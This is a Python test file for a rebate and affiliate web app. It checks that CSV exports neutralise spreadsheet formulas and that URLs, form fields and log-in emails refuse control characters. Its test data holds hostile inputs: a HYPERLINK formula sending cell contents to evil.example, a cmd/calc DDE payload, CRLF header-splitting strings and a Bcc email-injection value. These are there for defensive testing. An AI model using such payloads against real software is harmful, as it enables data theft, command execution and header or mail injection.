"""Items 10 and 11: CSV exports never hand a spreadsheet a formula, and no URL or header-bound
field accepts control characters (CR/LF header splitting, NUL, tabs)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from core.stores import StoreConfig
from rebates.links import is_allowed
from rebates.programs import ProgramConfig
from rebates.reports import FORMULA_STARTS, safe_cell
from tests.rebates.conftest import post_signed, postback_body, secret_of
from tests.security.conftest import csrf_token, log_in

HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]  # fmt: skip


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_hostile_transaction_ids_are_neutralised_in_both_exports(affiliate, sessions, click_id):
    secret = secret_of(sessions, "linkhub")
    for n, txn in enumerate(HOSTILE_IDS):
        body = postback_body(click_id, txn=txn, status="pending", commission=f"{n + 1}.00")
        assert post_signed(affiliate, secret, body).status_code == 200
    exported = rows(affiliate.get("/affiliate/conversions.csv").text)
    statement = rows(affiliate.get("/affiliate/statement.csv").text)
    for table, column in ((exported, "transaction_id"), (statement, "transaction_id")):
        index = table[0].index(column)
        cells = [row[index] for row in table[1:] if row[index]]
        assert sorted(cells) == sorted("'" + txn for txn in HOSTILE_IDS)


def test_negative_amounts_stay_numbers():
    from decimal import Decimal

    assert safe_cell(Decimal("-9.60")) == Decimal("-9.60")
    assert safe_cell("-9.60") == "'-9.60"  # text from outside is never trusted


@given(st.text(max_size=40))
def test_no_text_cell_can_start_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


CONTROL = ["\r\n", "\n", "\r", "\x00", "\t", "\x1b", "\u2028", "\x85"]


@pytest.mark.parametrize("char", CONTROL)
def test_store_urls_with_control_characters_are_refused(char):
    entry = {"id": "s", "name": "S", "platform": "shopify", "country": "US", "currency": "USD",
             "language": "en"}  # fmt: skip
    with pytest.raises(ValidationError, match="control characters"):
        StoreConfig.model_validate(entry | {"url": f"https://shop.example/{char}X-Evil: 1"})
    feed = {"url": f"/feed.xml{char}", "columns": {}}
    with pytest.raises(ValidationError, match="control characters"):
        StoreConfig.model_validate(
            entry | {"url": "https://shop.example", "platform": "xml_feed", "feed": feed}
        )


@pytest.mark.parametrize("char", CONTROL)
def test_deep_links_and_redirects_refuse_control_characters(sessions, char):
    with pytest.raises(ValidationError, match="control characters"):
        ProgramConfig(store="s", network="n", network_aff_id="a", commission_rate="0.1",
                      affiliate_share="0.5",
                      deep_link=f"https://t.example/c?{char}sub={{click_id}}")  # fmt: skip
    from sqlalchemy import select

    from rebates.tables import Program

    with sessions() as session:
        program = session.scalar(select(Program).where(Program.store_id == "us-vitashop"))
        assert is_allowed("https://www.vitashop.example/p", program)
        assert not is_allowed(f"https://www.vitashop.example/p{char}", program)


@pytest.fixture
def console(settings, sessions):
    from rebates.accounts import create_user
    from web import create_app

    app = create_app(settings, TESTING=True, SERVER_NAME="haitao.test")
    with sessions.begin() as session:
        create_user(session, "ops2@example.com", "operator password", role="operator")
    client = app.test_client()
    assert log_in(client, "ops2@example.com", "operator password").status_code == 302
    yield client, settings.stores_file
    app.extensions["haitao.search"].close()


@pytest.mark.parametrize("url", ["https://new.example/\r\nX-Evil: 1", "https://new.example/\x00",
                                 "https://new.example/\ta"])  # fmt: skip
def test_the_ops_store_form_refuses_a_url_with_control_characters(console, url):
    client, stores_file = console
    before = stores_file.read_text()
    form = {"csrf_token": csrf_token(client, "/ops/stores/new"), "id": "new-shop",
            "name": "New", "platform": "shopify", "url": url, "country": "US",
            "currency": "USD", "language": "en"}  # fmt: skip
    response = client.post("/ops/stores/new", data=form)
    assert response.status_code == 400
    assert 'id="url-error"' in response.text and "control characters" in response.text
    assert stores_file.read_text() == before


def test_an_email_with_control_characters_is_refused_at_log_in(client):
    response = log_in(client, "a@example.com\r\nBcc: all@example.com", "whatever it is")
    assert response.status_code == 400
    assert "control characters" in response.text
